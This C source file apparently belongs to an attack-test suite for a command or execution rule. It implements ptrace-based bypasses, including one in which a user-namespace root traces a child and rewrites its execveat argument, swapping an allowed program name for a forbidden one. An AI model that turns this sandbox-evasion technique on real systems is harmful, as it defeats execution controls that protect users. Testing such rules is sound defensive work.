/* SPDX-License-Identifier: Apache-2.0 */
/* Ways around a command rule by tracing the stub. */
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "rules_attack.h"

int way_ptrace(void)
{
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		(void)ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		run(allowed);
		_exit(127);
	}
	(void)waitpid(pid, &status, 0);
	(void)ptrace(PTRACE_CONT, pid, NULL, NULL);
	(void)kill(pid, SIGCONT);
	return 0;
}

/*
 * In a user namespace such as a browser makes, its root may read any file of the user's: a stub that can be read
 * can be traced. So it asks for something harmless, and its argument is changed before it becomes the program.
 */
static void map_root(uid_t uid, gid_t gid)
{
	const struct {
		const char *path;
		unsigned id;
	} maps[] = { { "/proc/self/uid_map", uid }, { "/proc/self/gid_map", gid } };
	int fd = open("/proc/self/setgroups", O_WRONLY);

	(void)dprintf(fd, "deny");
	(void)close(fd);
	for (int i = 0; i < 2; i++) {
		fd = open(maps[i].path, O_WRONLY);
		(void)dprintf(fd, "0 %u 1", maps[i].id);
		(void)close(fd);
	}
}

/* At the start of execveat(): the second word is written over. */
static void change_word(pid_t pid)
{
#ifdef __x86_64__
	struct user_regs_struct regs;
	long word, piece;

	(void)ptrace(PTRACE_GETREGS, pid, NULL, &regs);
	if (regs.orig_rax != SYS_execveat)
		return;
	word = ptrace(PTRACE_PEEKDATA, pid, regs.rdx + sizeof(char *), NULL);
	for (size_t i = 0; i < strlen(forbidden); i++) {
		piece = ptrace(PTRACE_PEEKDATA, pid, word + (long)i, NULL);
		piece = (piece & ~0xffL) | (unsigned char)forbidden[i];
		(void)ptrace(PTRACE_POKEDATA, pid, word + (long)i, piece);
	}
#else
	(void)pid;
#endif
}

static int trace_nested(void)
{
	char word[64] = "";
	int status;
	pid_t pid;

	memset(word, 'z', strlen(forbidden) % sizeof(word));
	pid = fork();
	if (pid == 0) {
		(void)ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		run(word);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
		change_word(pid);
		(void)ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
	}
	return 0;
}

int way_nested(void)
{
	const uid_t uid = getuid();
	const gid_t gid = getgid();
	pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, 0);

	if (pid == 0) {
		map_root(uid, gid);
		_exit(trace_nested());
	}
	return pid < 0 ? 1 : wait_end(pid);
}
